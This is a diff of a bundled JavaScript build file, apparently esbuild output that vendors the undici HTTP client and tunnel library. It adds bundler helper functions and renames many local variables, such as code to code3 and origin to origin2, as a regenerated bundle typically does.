@@ -12,12 +12,24 @@ var __require = /* @__PURE__ */ ((x) => typeof require !== "undefined" ? require
   if (typeof require !== "undefined") return require.apply(this, arguments);
   throw Error('Dynamic require of "' + x + '" is not supported');
 });
+var __esm = (fn, res, err) => function __init() {
+  if (err) throw err[0];
+  try {
+    return fn && (res = (0, fn[__getOwnPropNames(fn)[0]])(fn = 0)), res;
+  } catch (e) {
+    throw err = [e], e;
+  }
+};
 var __commonJS = (cb, mod) => function __require2() {
   try {
     return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
   } catch (e) {
     throw mod = 0, e;
   }
+};
+var __export = (target, all) => {
+  for (var name in all)
+    __defProp(target, name, { get: all[name], enumerable: true });
 };
 var __copyProps = (to, from, except, desc) => {
   if (from && typeof from === "object" || typeof from === "function") {
@@ -35,6 +47,7 @@ var __toESM = (mod, isNodeMode, target) => (target = mod != null ? __create(__ge
   isNodeMode || !mod || !mod.__esModule ? __defProp(target, "default", { value: mod, enumerable: true }) : target,
   mod
 ));
+var __toCommonJS = (mod) => __copyProps(__defProp({}, "__esModule", { value: true }), mod);
 
 // node_modules/tunnel/lib/tunnel.js
 var require_tunnel = __commonJS({
@@ -590,10 +603,10 @@ var require_errors = __commonJS({
     };
     var kHTTPParserError = /* @__PURE__ */ Symbol.for("undici.error.UND_ERR_HTTP_PARSER");
     var HTTPParserError = class extends Error {
-      constructor(message, code, data) {
+      constructor(message, code3, data) {
         super(message);
         this.name = "HTTPParserError";
-        this.code = code ? `HPE_${code}` : void 0;
+        this.code = code3 ? `HPE_${code3}` : void 0;
         this.data = data ? data.toString() : void 0;
       }
       static [Symbol.hasInstance](instance) {
@@ -616,12 +629,12 @@ var require_errors = __commonJS({
     };
     var kRequestRetryError = /* @__PURE__ */ Symbol.for("undici.error.UND_ERR_REQ_RETRY");
     var RequestRetryError = class extends UndiciError {
-      constructor(message, code, { headers, data }) {
+      constructor(message, code3, { headers, data }) {
         super(message);
         this.name = "RequestRetryError";
         this.message = message || "Request retry error";
         this.code = "UND_ERR_REQ_RETRY";
-        this.statusCode = code;
+        this.statusCode = code3;
         this.data = data;
         this.headers = headers;
       }
@@ -632,12 +645,12 @@ var require_errors = __commonJS({
     };
     var kResponseError = /* @__PURE__ */ Symbol.for("undici.error.UND_ERR_RESPONSE");
     var ResponseError = class extends UndiciError {
-      constructor(message, code, { headers, data }) {
+      constructor(message, code3, { headers, data }) {
         super(message);
         this.name = "ResponseError";
         this.message = message || "Response error";
         this.code = "UND_ERR_RESPONSE";
-        this.statusCode = code;
+        this.statusCode = code3;
         this.data = data;
         this.headers = headers;
       }
@@ -847,8 +860,8 @@ var require_tree = __commonJS({
         if (index === void 0 || index >= key.length) {
           throw new TypeError("Unreachable");
         }
-        const code = this.code = key.charCodeAt(index);
-        if (code > 127) {
+        const code3 = this.code = key.charCodeAt(index);
+        if (code3 > 127) {
           throw new TypeError("key must be ascii string");
         }
         if (key.length !== ++index) {
@@ -869,11 +882,11 @@ var require_tree = __commonJS({
         let index = 0;
         let node = this;
         while (true) {
-          const code = key.charCodeAt(index);
-          if (code > 127) {
+          const code3 = key.charCodeAt(index);
+          if (code3 > 127) {
             throw new TypeError("key must be ascii string");
           }
-          if (node.code === code) {
+          if (node.code === code3) {
             if (length === ++index) {
               node.value = value;
               break;
@@ -883,7 +896,7 @@ var require_tree = __commonJS({
               node.middle = new _TstNode(key, value, index);
               break;
             }
-          } else if (node.code < code) {
+          } else if (node.code < code3) {
             if (node.left !== null) {
               node = node.left;
             } else {
@@ -907,19 +920,19 @@ var require_tree = __commonJS({
         let index = 0;
         let node = this;
         while (node !== null && index < keylength) {
-          let code = key[index];
-          if (code <= 90 && code >= 65) {
-            code |= 32;
+          let code3 = key[index];
+          if (code3 <= 90 && code3 >= 65) {
+            code3 |= 32;
           }
           while (node !== null) {
-            if (code === node.code) {
+            if (code3 === node.code) {
               if (keylength === ++index) {
                 return node;
               }
               node = node.middle;
               break;
             }
-            node = node.code < code ? node.left : node.right;
+            node = node.code < code3 ? node.left : node.right;
           }
         }
         return null;
@@ -1074,15 +1087,15 @@ var require_util = __commonJS({
           throw new InvalidArgumentError("Invalid URL protocol: the URL must start with `http:` or `https:`.");
         }
         const port = url.port != null ? url.port : url.protocol === "https:" ? 443 : 80;
-        let origin = url.origin != null ? url.origin : `${url.protocol || ""}//${url.hostname || ""}:${port}`;
+        let origin2 = url.origin != null ? url.origin : `${url.protocol || ""}//${url.hostname || ""}:${port}`;
         let path8 = url.path != null ? url.path : `${url.pathname || ""}${url.search || ""}`;
-        if (origin[origin.length - 1] === "/") {
-          origin = origin.slice(0, origin.length - 1);
+        if (origin2[origin2.length - 1] === "/") {
+          origin2 = origin2.slice(0, origin2.length - 1);
         }
         if (path8 && path8[0] !== "/") {
           path8 = `/${path8}`;
         }
-        return new URL(`${origin}${path8}`);
+        return new URL(`${origin2}${path8}`);
       }
       if (!isHttpOrHttpsPrefixed(url.origin || url.protocol)) {
         throw new InvalidArgumentError("Invalid URL protocol: the URL must start with `http:` or `https:`.");
@@ -1363,9 +1376,9 @@ var require_util = __commonJS({
     function isValidHeaderValue(characters) {
       return !headerCharRegex.test(characters);
     }
-    function parseRangeHeader(range2) {
-      if (range2 == null || range2 === "") return { start: 0, end: null, size: null };
-      const m = range2 ? range2.match(/^bytes (\d+)-(\d+)\/(\d+)?$/) : null;
+    function parseRangeHeader(range3) {
+      if (range3 == null || range3 === "") return { start: 0, end: null, size: null };
+      const m = range3 ? range3.match(/^bytes (\d+)-(\d+)\/(\d+)?$/) : null;
       return m ? {
         start: parseInt(m[1]),
         end: m[2] ? parseInt(m[2]) : null,
@@ -1533,38 +1546,38 @@ var require_diagnostics = __commonJS({
       });
       diagnosticsChannel.channel("undici:client:sendHeaders").subscribe((evt) => {
         const {
-          request: { method, path: path8, origin }
+          request: { method, path: path8, origin: origin2 }
         } = evt;
-        debuglog("sending request to %s %s/%s", method, origin, path8);
+        debuglog("sending request to %s %s/%s", method, origin2, path8);
       });
       diagnosticsChannel.channel("undici:request:headers").subscribe((evt) => {
         const {
-          request: { method, path: path8, origin },
+          request: { method, path: path8, origin: origin2 },
           response: { statusCode }
         } = evt;
         debuglog(
           "received response to %s %s/%s - HTTP %d",
           method,
-          origin,
+          origin2,
           path8,
           statusCode
         );
       });
       diagnosticsChannel.channel("undici:request:trailers").subscribe((evt) => {
         const {
-          request: { method, path: path8, origin }
+          request: { method, path: path8, origin: origin2 }
         } = evt;
-        debuglog("trailers received from %s %s/%s", method, origin, path8);
+        debuglog("trailers received from %s %s/%s", method, origin2, path8);
       });
       diagnosticsChannel.channel("undici:request:error").subscribe((evt) => {
         const {
-          request: { method, path: path8, origin },
+          request: { method, path: path8, origin: origin2 },
           error: error2
         } = evt;
         debuglog(
           "request to %s %s/%s errored - %s",
           method,
-          origin,
+          origin2,
           path8,
           error2.message
         );
@@ -1614,9 +1627,9 @@ var require_diagnostics = __commonJS({
         });
         diagnosticsChannel.channel("undici:client:sendHeaders").subscribe((evt) => {
           const {
-            request: { method, path: path8, origin }
+            request: { method, path: path8, origin: origin2 }
           } = evt;
-          debuglog("sending request to %s %s/%s", method, origin, path8);
+          debuglog("sending request to %s %s/%s", method, origin2, path8);
         });
       }
       diagnosticsChannel.channel("undici:websocket:open").subscribe((evt) => {
@@ -1626,11 +1639,11 @@ var require_diagnostics = __commonJS({
         websocketDebuglog("connection opened %s%s", address, port ? `:${port}` : "");
       });
       diagnosticsChannel.channel("undici:websocket:close").subscribe((evt) => {
-        const { websocket, code, reason } = evt;
+        const { websocket, code: code3, reason } = evt;
         websocketDebuglog(
           "closed connection to %s - %s %s",
           websocket.url,
-          code,
+          code3,
           reason
         );
       });
@@ -1678,7 +1691,7 @@ var require_request = __commonJS({
     var invalidPathRegex = /[^\u0021-\u00ff]/;
     var kHandler = /* @__PURE__ */ Symbol("handler");
     var Request = class {
-      constructor(origin, {
+      constructor(origin2, {
         path: path8,
         method,
         body,
@@ -1765,7 +1778,7 @@ var require_request = __commonJS({
         this.aborted = false;
         this.upgrade = upgrade || null;
         this.path = query ? buildURL(path8, query) : path8;
-        this.origin = origin;
+        this.origin = origin2;
         this.idempotent = idempotent == null ? method === "HEAD" || method === "GET" : idempotent;
         this.blocking = blocking == null ? false : blocking;
         this.reset = reset == null ? null : reset;
@@ -2750,18 +2763,18 @@ var require_constants2 = __commonJS({
       TYPE2[TYPE2["REQUEST"] = 1] = "REQUEST";
       TYPE2[TYPE2["RESPONSE"] = 2] = "RESPONSE";
     })(TYPE = exports.TYPE || (exports.TYPE = {}));
-    var FLAGS;
-    (function(FLAGS2) {
-      FLAGS2[FLAGS2["CONNECTION_KEEP_ALIVE"] = 1] = "CONNECTION_KEEP_ALIVE";
-      FLAGS2[FLAGS2["CONNECTION_CLOSE"] = 2] = "CONNECTION_CLOSE";
-      FLAGS2[FLAGS2["CONNECTION_UPGRADE"] = 4] = "CONNECTION_UPGRADE";
-      FLAGS2[FLAGS2["CHUNKED"] = 8] = "CHUNKED";
-      FLAGS2[FLAGS2["UPGRADE"] = 16] = "UPGRADE";
-      FLAGS2[FLAGS2["CONTENT_LENGTH"] = 32] = "CONTENT_LENGTH";
-      FLAGS2[FLAGS2["SKIPBODY"] = 64] = "SKIPBODY";
-      FLAGS2[FLAGS2["TRAILING"] = 128] = "TRAILING";
-      FLAGS2[FLAGS2["TRANSFER_ENCODING"] = 512] = "TRANSFER_ENCODING";
-    })(FLAGS = exports.FLAGS || (exports.FLAGS = {}));
+    var FLAGS2;
+    (function(FLAGS3) {
+      FLAGS3[FLAGS3["CONNECTION_KEEP_ALIVE"] = 1] = "CONNECTION_KEEP_ALIVE";
+      FLAGS3[FLAGS3["CONNECTION_CLOSE"] = 2] = "CONNECTION_CLOSE";
+      FLAGS3[FLAGS3["CONNECTION_UPGRADE"] = 4] = "CONNECTION_UPGRADE";
+      FLAGS3[FLAGS3["CHUNKED"] = 8] = "CHUNKED";
+      FLAGS3[FLAGS3["UPGRADE"] = 16] = "UPGRADE";
+      FLAGS3[FLAGS3["CONTENT_LENGTH"] = 32] = "CONTENT_LENGTH";
+      FLAGS3[FLAGS3["SKIPBODY"] = 64] = "SKIPBODY";
+      FLAGS3[FLAGS3["TRAILING"] = 128] = "TRAILING";
+      FLAGS3[FLAGS3["TRANSFER_ENCODING"] = 512] = "TRANSFER_ENCODING";
+    })(FLAGS2 = exports.FLAGS || (exports.FLAGS = {}));
     var LENIENT_FLAGS;
     (function(LENIENT_FLAGS2) {
       LENIENT_FLAGS2[LENIENT_FLAGS2["HEADERS"] = 1] = "HEADERS";
@@ -4118,9 +4131,9 @@ var require_util2 = __commonJS({
     }
     function isValidEncodedURL(url) {
       for (let i = 0; i < url.length; ++i) {
-        const code = url.charCodeAt(i);
-        if (code > 126 || // Non-US-ASCII + DEL
-        code < 32) {
+        const code3 = url.charCodeAt(i);
+        if (code3 > 126 || // Non-US-ASCII + DEL
+        code3 < 32) {
           return false;
         }
       }
@@ -4352,9 +4365,9 @@ var require_util2 = __commonJS({
       if (url.protocol === "data:") return true;
       if (url.protocol === "file:") return true;
       return isOriginPotentiallyTrustworthy(url.origin);
-      function isOriginPotentiallyTrustworthy(origin) {
-        if (origin == null || origin === "null") return false;
-        const originAsURL = new URL(origin);
+      function isOriginPotentiallyTrustworthy(origin2) {
+        if (origin2 == null || origin2 === "null") return false;
+        const originAsURL = new URL(origin2);
         if (originAsURL.protocol === "https:" || originAsURL.protocol === "wss:") {
           return true;
         }
@@ -4590,7 +4603,7 @@ var require_util2 = __commonJS({
           writable: true,
           enumerable: true,
           configurable: true,
-          value: function entries() {
+          value: function entries2() {
             webidl.brandCheck(this, object);
             return makeIterator(this, "key+value");
           }
@@ -4711,8 +4724,8 @@ var require_util2 = __commonJS({
       }
       const rangeStart = collectASequenceOfCodePoints(
         (char) => {
-          const code = char.charCodeAt(0);
-          return code >= 48 && code <= 57;
+          const code3 = char.charCodeAt(0);
+          return code3 >= 48 && code3 <= 57;
         },
         data,
         position
@@ -4738,8 +4751,8 @@ var require_util2 = __commonJS({
       }
       const rangeEnd = collectASequenceOfCodePoints(
         (char) => {
-          const code = char.charCodeAt(0);
-          return code >= 48 && code <= 57;
+          const code3 = char.charCodeAt(0);
+          return code3 >= 48 && code3 <= 57;
         },
         data,
         position
@@ -5316,12 +5329,12 @@ var require_formdata_parser = __commonJS({
               return "failure";
             }
             if (bufferStartsWith(input, filenameBuffer, position)) {
-              let check = position.position + filenameBuffer.length;
-              if (input[check] === 42) {
+              let check2 = position.position + filenameBuffer.length;
+              if (input[check2] === 42) {
                 position.position += 1;
-                check += 1;
+                check2 += 1;
               }
-              if (input[check] !== 61 || input[check + 1] !== 34) {
+              if (input[check2] !== 61 || input[check2 + 1] !== 34) {
                 return "failure";
               }
               position.position += 12;
@@ -5658,9 +5671,9 @@ Content-Type: ${value.type || "application/octet-stream"}\r
                   return fd;
                 }
                 case "application/x-www-form-urlencoded": {
-                  const entries = new URLSearchParams(value.toString());
+                  const entries2 = new URLSearchParams(value.toString());
                   const fd = new FormData();
-                  for (const [name, value2] of entries) {
+                  for (const [name, value2] of entries2) {
                     fd.append(name, value2);
                   }
                   return fd;
@@ -5857,7 +5870,7 @@ var require_client_h1 = __commonJS({
     var TIMEOUT_HEADERS = 2 | USE_FAST_TIMER;
     var TIMEOUT_BODY = 4 | USE_FAST_TIMER;
     var TIMEOUT_KEEP_ALIVE = 8 | USE_NATIVE_TIMER;
-    var Parser = class {
+    var Parser2 = class {
       constructor(client, socket, { exports: exports2 }) {
         assert(Number.isFinite(client[kMaxHeadersSize]) && client[kMaxHeadersSize] > 0);
         this.llhttp = exports2;
@@ -6284,7 +6297,7 @@ var require_client_h1 = __commonJS({
       socket[kIdleSocketValidation] = 0;
       socket[kIdleSocketValidationTimeout] = null;
       socket[kSocketUsed] = false;
-      socket[kParser] = new Parser(client, socket, llhttpInstance);
+      socket[kParser] = new Parser2(client, socket, llhttpInstance);
       addListener(socket, "error", function(err) {
         const parser = this[kParser];
         if (err.code === "ECONNRESET" && parser.statusCode && !parser.shouldKeepAlive) {
@@ -7030,9 +7043,9 @@ var require_client_h2 = __commonJS({
       this[kSocket][kError] = err;
       this[kClient][kOnError](err);
     }
-    function onHttp2FrameError(type, code, id) {
+    function onHttp2FrameError(type, code3, id) {
       if (id === 0) {
-        const err = new InformationalError(`HTTP/2: "frameError" received - type ${type}, code ${code}`);
+        const err = new InformationalError(`HTTP/2: "frameError" received - type ${type}, code ${code3}`);
         this[kSocket][kError] = err;
         this[kClient][kOnError](err);
       }
@@ -7042,8 +7055,8 @@ var require_client_h2 = __commonJS({
       this.destroy(err);
       util.destroy(this[kSocket], err);
     }
-    function onHTTP2GoAway(code) {
-      const err = this[kError] || new SocketError(`HTTP/2: "GOAWAY" frame received with code ${code}`, util.getSocketInfo(this));
+    function onHTTP2GoAway(code3) {
+      const err = this[kError] || new SocketError(`HTTP/2: "GOAWAY" frame received with code ${code3}`, util.getSocketInfo(this));
       const client = this[kClient];
       client[kSocket] = null;
       client[kHTTPContext] = null;
@@ -7248,8 +7261,8 @@ var require_client_h2 = __commonJS({
       stream.once("error", function(err) {
         abort(err);
       });
-      stream.once("frameError", (type, code) => {
-        abort(new InformationalError(`HTTP/2: "frameError" received - type ${type}, code ${code}`));
+      stream.once("frameError", (type, code3) => {
+        abort(new InformationalError(`HTTP/2: "frameError" received - type ${type}, code ${code3}`));
       });
       return true;
       function writeBodyH2() {
@@ -7516,11 +7529,11 @@ var require_redirect_handler = __commonJS({
         if (!this.location) {
           return this.handler.onHeaders(statusCode, headers, resume, statusText);
         }
-        const { origin, pathname, search } = util.parseURL(new URL(this.location, this.opts.origin && new URL(this.opts.path, this.opts.origin)));
+        const { origin: origin2, pathname, search } = util.parseURL(new URL(this.location, this.opts.origin && new URL(this.opts.path, this.opts.origin)));
         const path8 = search ? `${pathname}${search}` : pathname;
-        this.opts.headers = cleanRequestHeaders(this.opts.headers, statusCode === 303, this.opts.origin !== origin);
+        this.opts.headers = cleanRequestHeaders(this.opts.headers, statusCode === 303, this.opts.origin !== origin2);
         this.opts.path = path8;
-        this.opts.origin = origin;
+        this.opts.origin = origin2;
         this.opts.maxRedirections = 0;
         this.opts.query = null;
         if (statusCode === 303 && this.opts.method !== "HEAD") {
@@ -7868,8 +7881,8 @@ var require_client = __commonJS({
         this.once("connect", cb);
       }
       [kDispatch](opts, handler) {
-        const origin = opts.origin || this[kUrl].origin;
-        const request = new Request(origin, opts, handler);
+        const origin2 = opts.origin || this[kUrl].origin;
+        const request = new Request(origin2, opts, handler);
         this[kQueue].push(request);
         if (this[kResuming]) {
         } else if (util.bodyLength(request.body) == null && util.isIterable(request.body)) {
@@ -8235,7 +8248,7 @@ var require_pool_base = __commonJS({
         this[kClients] = [];
         this[kQueued] = 0;
         const pool = this;
-        this[kOnDrain] = function onDrain(origin, targets) {
+        this[kOnDrain] = function onDrain(origin2, targets) {
           const queue = pool[kQueue];
           let needDrain = false;
           while (!needDrain) {
@@ -8249,20 +8262,20 @@ var require_pool_base = __commonJS({
           this[kNeedDrain] = needDrain;
           if (!this[kNeedDrain] && pool[kNeedDrain]) {
             pool[kNeedDrain] = false;
-            pool.emit("drain", origin, [pool, ...targets]);
+            pool.emit("drain", origin2, [pool, ...targets]);
           }
           if (pool[kClosedResolve] && queue.isEmpty()) {
             Promise.all(pool[kClients].map((c) => c.close())).then(pool[kClosedResolve]);
           }
         };
-        this[kOnConnect] = (origin, targets) => {
-          pool.emit("connect", origin, [pool, ...targets]);
+        this[kOnConnect] = (origin2, targets) => {
+          pool.emit("connect", origin2, [pool, ...targets]);
         };
-        this[kOnDisconnect] = (origin, targets, err) => {
-          pool.emit("disconnect", origin, [pool, ...targets], err);
+        this[kOnDisconnect] = (origin2, targets, err) => {
+          pool.emit("disconnect", origin2, [pool, ...targets], err);
         };
-        this[kOnConnectionError] = (origin, targets, err) => {
-          pool.emit("connectionError", origin, [pool, ...targets], err);
+        this[kOnConnectionError] = (origin2, targets, err) => {
+          pool.emit("connectionError", origin2, [pool, ...targets], err);
         };
         this[kStats] = new PoolStats(this);
       }
@@ -8384,11 +8397,11 @@ var require_pool = __commonJS({
     var kOptions = /* @__PURE__ */ Symbol("options");
     var kConnections = /* @__PURE__ */ Symbol("connections");
     var kFactory = /* @__PURE__ */ Symbol("factory");
-    function defaultFactory(origin, opts) {
-      return new Client(origin, opts);
+    function defaultFactory(origin2, opts) {
+      return new Client(origin2, opts);
     }
     var Pool = class extends PoolBase {
-      constructor(origin, {
+      constructor(origin2, {
         connections,
         factory = defaultFactory,
         connect,
@@ -8424,11 +8437,11 @@ var require_pool = __commonJS({
         super(options);
         this[kInterceptors] = options.interceptors?.Pool && Array.isArray(options.interceptors.Pool) ? options.interceptors.Pool : [];
         this[kConnections] = connections || null;
-        this[kUrl] = util.parseOrigin(origin);
+        this[kUrl] = util.parseOrigin(origin2);
         this[kOptions] = { ...util.deepClone(options), connect, allowH2 };
         this[kOptions].interceptors = options.interceptors ? { ...options.interceptors } : void 0;
         this[kFactory] = factory;
-        this.on("connectionError", (origin2, targets, error2) => {
+        this.on("connectionError", (origin3, targets, error2) => {
           for (const target of targets) {
             const idx = this[kClients].indexOf(target);
             if (idx !== -1) {
@@ -8490,8 +8503,8 @@ var require_balanced_pool = __commonJS({
       }
       return a;
     }
-    function defaultFactory(origin, opts) {
-      return new Pool(origin, opts);
+    function defaultFactory(origin2, opts) {
+      return new Pool(origin2, opts);
     }
     var BalancedPool = class extends PoolBase {
       constructor(upstreams = [], { factory = defaultFactory, ...opts } = {}) {
@@ -8616,8 +8629,8 @@ var require_agent = __commonJS({
     var kOnDrain = /* @__PURE__ */ Symbol("onDrain");
     var kFactory = /* @__PURE__ */ Symbol("factory");
     var kOptions = /* @__PURE__ */ Symbol("options");
-    function defaultFactory(origin, opts) {
-      return opts && opts.connections === 1 ? new Client(origin, opts) : new Pool(origin, opts);
+    function defaultFactory(origin2, opts) {
+      return opts && opts.connections === 1 ? new Client(origin2, opts) : new Pool(origin2, opts);
     }
     var Agent = class extends DispatcherBase {
       constructor({ factory = defaultFactory, maxRedirections = 0, connect, tls, ...options } = {}) {
@@ -8643,17 +8656,17 @@ var require_agent = __commonJS({
         this[kMaxRedirections] = maxRedirections;
         this[kFactory] = factory;
         this[kClients] = /* @__PURE__ */ new Map();
-        this[kOnDrain] = (origin, targets) => {
-          this.emit("drain", origin, [this, ...targets]);
+        this[kOnDrain] = (origin2, targets) => {
+          this.emit("drain", origin2, [this, ...targets]);
         };
-        this[kOnConnect] = (origin, targets) => {
-          this.emit("connect", origin, [this, ...targets]);
+        this[kOnConnect] = (origin2, targets) => {
+          this.emit("connect", origin2, [this, ...targets]);
         };
-        this[kOnDisconnect] = (origin, targets, err) => {
-          this.emit("disconnect", origin, [this, ...targets], err);
+        this[kOnDisconnect] = (origin2, targets, err) => {
+          this.emit("disconnect", origin2, [this, ...targets], err);
         };
-        this[kOnConnectionError] = (origin, targets, err) => {
-          this.emit("connectionError", origin, [this, ...targets], err);
+        this[kOnConnectionError] = (origin2, targets, err) => {
+          this.emit("connectionError", origin2, [this, ...targets], err);
         };
       }
       get [kRunning]() {
@@ -8720,16 +8733,16 @@ var require_proxy_agent = __commonJS({
     function defaultProtocolPort(protocol) {
       return protocol === "https:" ? 443 : 80;
     }
-    function defaultFactory(origin, opts) {
-      return new Pool(origin, opts);
+    function defaultFactory(origin2, opts) {
+      return new Pool(origin2, opts);
     }
     var noop = () => {
     };
-    function defaultAgentFactory(origin, opts) {
+    function defaultAgentFactory(origin2, opts) {
       if (opts.connections === 1) {
-        return new Client(origin, opts);
+        return new Client(origin2, opts);
       }
-      return new Pool(origin, opts);
+      return new Pool(origin2, opts);
     }
     var Http1ProxyWrapper = class extends DispatcherBase {
       #client;
@@ -8757,13 +8770,13 @@ var require_proxy_agent = __commonJS({
           if (onHeaders) onHeaders.call(this, statusCode, data, resume);
         };
         const {
-          origin,
+          origin: origin2,
           path: path8 = "/",
           headers = {}
         } = opts;
-        opts.path = origin + path8;
+        opts.path = origin2 + path8;
         if (!("host" in headers) && !("Host" in headers)) {
-          const { host } = new URL2(origin);
+          const { host } = new URL2(origin2);
           headers.host = host;
         }
         opts.headers = { ...this[kProxyHeaders], ...headers };
@@ -8788,7 +8801,7 @@ var require_proxy_agent = __commonJS({
         }
         const { proxyTunnel = true } = opts;
         const url = this.#getUrl(opts);
-        const { href, origin, port, protocol, username, password, hostname: proxyHostname } = url;
+        const { href, origin: origin2, port, protocol, username, password, hostname: proxyHostname } = url;
         this[kProxy] = { uri: href, protocol };
         this[kInterceptors] = opts.interceptors?.ProxyAgent && Array.isArray(opts.interceptors.ProxyAgent) ? opts.interceptors.ProxyAgent : [];
         this[kRequestTls] = opts.requestTls;
@@ -8807,8 +8820,8 @@ var require_proxy_agent = __commonJS({
         const connect = buildConnector({ ...opts.proxyTls });
         this[kConnectEndpoint] = buildConnector({ ...opts.requestTls });
         const agentFactory = opts.factory || defaultAgentFactory;
-        const factory = (origin2, options) => {
-          const { protocol: protocol2 } = new URL2(origin2);
+        const factory = (origin3, options) => {
+          const { protocol: protocol2 } = new URL2(origin3);
           if (!this[kTunnelProxy] && protocol2 === "http:" && this[kProxy].protocol === "http:") {
             return new Http1ProxyWrapper(this[kProxy].uri, {
               headers: this[kProxyHeaders],
@@ -8816,7 +8829,7 @@ var require_proxy_agent = __commonJS({
               factory: agentFactory
             });
           }
-          return agentFactory(origin2, options);
+          return agentFactory(origin3, options);
         };
         this[kClient] = clientFactory(url, { connect });
         this[kAgent] = new Agent({
@@ -8829,7 +8842,7 @@ var require_proxy_agent = __commonJS({
             }
             try {
               const { socket, statusCode } = await this[kClient].connect({
-                origin,
+                origin: origin2,
                 port,
                 path: requestedPath,
                 signal: opts2.signal,
@@ -9074,16 +9087,16 @@ var require_retry_handler = __commonJS({
       const current = Date.now();
       return new Date(retryAfter).getTime() - current;
     }
-    function validatePartialResponseContentLength(headers, range2, statusCode, retryCount) {
+    function validatePartialResponseContentLength(headers, range3, statusCode, retryCount) {
       const contentLength = headers["content-length"];
       if (contentLength == null) {
         return null;
       }
-      if (!Number.isFinite(range2.start) || !Number.isFinite(range2.end)) {
+      if (!Number.isFinite(range3.start) || !Number.isFinite(range3.end)) {
         return null;
       }
       const length = Number(contentLength);
-      const expectedLength = range2.end - range2.start + 1;
+      const expectedLength = range3.end - range3.start + 1;
       if (!Number.isFinite(length) || length !== expectedLength) {
         return new RequestRetryError("Content-Length mismatch", statusCode, {
           headers,
@@ -9187,7 +9200,7 @@ var require_retry_handler = __commonJS({
         if (this.handler.onBodySent) return this.handler.onBodySent(chunk);
       }
       static [kRetryHandlerDefaultRetry](err, { state, opts }, cb) {
-        const { statusCode, code, headers } = err;
+        const { statusCode, code: code3, headers } = err;
         const { method, retryOptions } = opts;
         const {
           maxRetries,
@@ -9199,7 +9212,7 @@ var require_retry_handler = __commonJS({
           methods
         } = retryOptions;
         const { counter } = state;
-        if (code && code !== "UND_ERR_REQ_RETRY" && !errorCodes.includes(code)) {
+        if (code3 && code3 !== "UND_ERR_REQ_RETRY" && !errorCodes.includes(code3)) {
           cb(err);
           return;
         }
@@ -9298,8 +9311,8 @@ var require_retry_handler = __commonJS({
         }
         if (this.end == null) {
           if (statusCode === 206) {
-            const range2 = parseRangeHeader(headers["content-range"]);
-            if (range2 == null) {
+            const range3 = parseRangeHeader(headers["content-range"]);
+            if (range3 == null) {
               this.headersSent = true;
               return this.handler.onHeaders(
                 statusCode,
@@ -9308,12 +9321,12 @@ var require_retry_handler = __commonJS({
                 statusMessage
               );
             }
-            const contentLengthError = validatePartialResponseContentLength(headers, range2, statusCode, this.retryCount);
+            const contentLengthError = validatePartialResponseContentLength(headers, range3, statusCode, this.retryCount);
             if (contentLengthError != null) {
               this.abort(contentLengthError);
               return false;
             }
-            const { start, size, end = size - 1 } = range2;
+            const { start, size, end = size - 1 } = range3;
             assert(
               start != null && Number.isFinite(start),
               "content-range mismatch"
@@ -10706,11 +10719,11 @@ var require_mock_utils = __commonJS({
     }
     function buildHeadersFromArray(headers) {
       const clone = headers.slice();
-      const entries = [];
+      const entries2 = [];
       for (let index = 0; index < clone.length; index += 2) {
-        entries.push([clone[index], clone[index + 1]]);
+        entries2.push([clone[index], clone[index + 1]]);
       }
-      return Object.fromEntries(entries);
+      return Object.fromEntries(entries2);
     }
     function matchHeaders(mockDispatch2, headers) {
       if (typeof mockDispatch2.headers === "function") {
@@ -10887,7 +10900,7 @@ var require_mock_utils = __commonJS({
     }
     function buildMockDispatch() {
       const agent = this[kMockAgent];
-      const origin = this[kOrigin];
+      const origin2 = this[kOrigin];
       const originalDispatch = this[kOriginalDispatch];
       return function dispatch(opts, handler) {
         if (agent.isMockActive) {
@@ -10897,12 +10910,12 @@ var require_mock_utils = __commonJS({
             if (error2 instanceof MockNotMatchedError) {
               const netConnect = agent[kGetNetConnect]();
               if (netConnect === false) {
-                throw new MockNotMatchedError(`${error2.message}: subsequent request to origin ${origin} was not allowed (net.connect disabled)`);
+                throw new MockNotMatchedError(`${error2.message}: subsequent request to origin ${origin2} was not allowed (net.connect disabled)`);
               }
-              if (checkNetConnect(netConnect, origin)) {
+              if (checkNetConnect(netConnect, origin2)) {
                 originalDispatch.call(this, opts, handler);
               } else {
-                throw new MockNotMatchedError(`${error2.message}: subsequent request to origin ${origin} was not allowed (net.connect is not enabled for this origin)`);
+                throw new MockNotMatchedError(`${error2.message}: subsequent request to origin ${origin2} was not allowed (net.connect is not enabled for this origin)`);
               }
             } else {
               throw error2;
@@ -10913,8 +10926,8 @@ var require_mock_utils = __commonJS({
         }
       };
     }
-    function checkNetConnect(netConnect, origin) {
-      const url = new URL(origin);
+    function checkNetConnect(netConnect, origin2) {
+      const url = new URL(origin2);
       if (netConnect === true) {
         return true;
       } else if (Array.isArray(netConnect) && netConnect.some((matcher) => matchValue(matcher, url.host))) {
@@ -11130,13 +11143,13 @@ var require_mock_client = __commonJS({
     var Symbols = require_symbols();
     var { InvalidArgumentError } = require_errors();
     var MockClient = class extends Client {
-      constructor(origin, opts) {
-        super(origin, opts);
+      constructor(origin2, opts) {
+        super(origin2, opts);
         if (!opts || !opts.agent || typeof opts.agent.dispatch !== "function") {
           throw new InvalidArgumentError("Argument opts.agent must implement Agent");
         }
         this[kMockAgent] = opts.agent;
-        this[kOrigin] = origin;
+        this[kOrigin] = origin2;
         this[kDispatches] = [];
         this[kConnected] = 1;
         this[kOriginalDispatch] = this.dispatch;
@@ -11183,13 +11196,13 @@ var require_mock_pool = __commonJS({
     var Symbols = require_symbols();
     var { InvalidArgumentError } = require_errors();
     var MockPool = class extends Pool {
-      constructor(origin, opts) {
-        super(origin, opts);
+      constructor(origin2, opts) {
+        super(origin2, opts);
         if (!opts || !opts.agent || typeof opts.agent.dispatch !== "function") {
           throw new InvalidArgumentError("Argument opts.agent must implement Agent");
         }
         this[kMockAgent] = opts.agent;
-        this[kOrigin] = origin;
+        this[kOrigin] = origin2;
         this[kDispatches] = [];
         this[kConnected] = 1;
         this[kOriginalDispatch] = this.dispatch;
@@ -11271,9 +11284,9 @@ var require_pending_interceptors_formatter = __commonJS({
       }
       format(pendingInterceptors) {
         const withPrettyHeaders = pendingInterceptors.map(
-          ({ method, path: path8, data: { statusCode }, persist, times, timesInvoked, origin }) => ({
+          ({ method, path: path8, data: { statusCode }, persist, times, timesInvoked, origin: origin2 }) => ({
             Method: method,
-            Origin: origin,
+            Origin: origin2,
             Path: path8,
             "Status code": statusCode,
             Persistent: persist ? PERSISTENT : NOT_PERSISTENT,
